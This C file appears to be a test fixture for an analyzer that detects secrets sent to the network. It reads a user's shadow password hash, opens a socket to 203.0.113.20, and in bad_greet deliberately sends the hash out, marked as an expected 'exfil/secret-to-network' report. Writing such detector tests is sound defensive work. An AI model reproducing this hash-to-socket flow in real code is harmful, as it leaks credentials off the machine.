/* What a function that only reads may have been given does not become one: the name that is sent is
 * no hash because both may have been noted. */
#include "greeting.h"

#include <arpa/inet.h>
#include <shadow.h>
#include <stdbool.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

struct session {
    int fd;
    char name[64];
    char hash[128];
};

struct entry {
    struct entry *next;
    char *name, *hash;
};

static void good_greet(struct session *session, bool details) {
    note(details ? session->hash : session->name);
    send(session->fd, session->name, strlen(session->name), 0);
}

/* The same over a list, whose elements are many. */
static void good_list(int fd, const struct entry *first) {
    for (const struct entry *entry = first; entry; entry = entry->next) {
        note(entry->hash);
        note(entry->name);
    }
    for (const struct entry *entry = first; entry; entry = entry->next)
        send(fd, entry->name, strlen(entry->name), 0);
}

static void bad_greet(struct session *session, bool details) {
    const char *text = details ? session->hash : session->name;
    note(text);
    // report@+1: exfil/secret-to-network
    send(session->fd, text, strlen(text), 0);
}

static int dial(void) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(5000)};
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    inet_aton("203.0.113.20", &to.sin_addr);
    return connect(fd, (struct sockaddr *)&to, sizeof to) == 0 ? fd : -1;
}

int main(int argc, char **argv) {
    struct session session = {.fd = dial()};
    struct entry last = {.name = argv[0]}, first = {.next = &last, .name = argv[0]};
    struct spwd *known = argc > 1 ? getspnam(argv[1]) : NULL;
    if (!known)
        return 1;
    strncpy(session.name, argv[1], sizeof session.name - 1);
    strncpy(session.hash, known->sp_pwdp, sizeof session.hash - 1);
    first.hash = strdup(session.hash);
    last.hash = strdup(session.hash);
    good_greet(&session, argc > 2);
    good_list(session.fd, &first);
    bad_greet(&session, argc > 2);
    return 0;
}
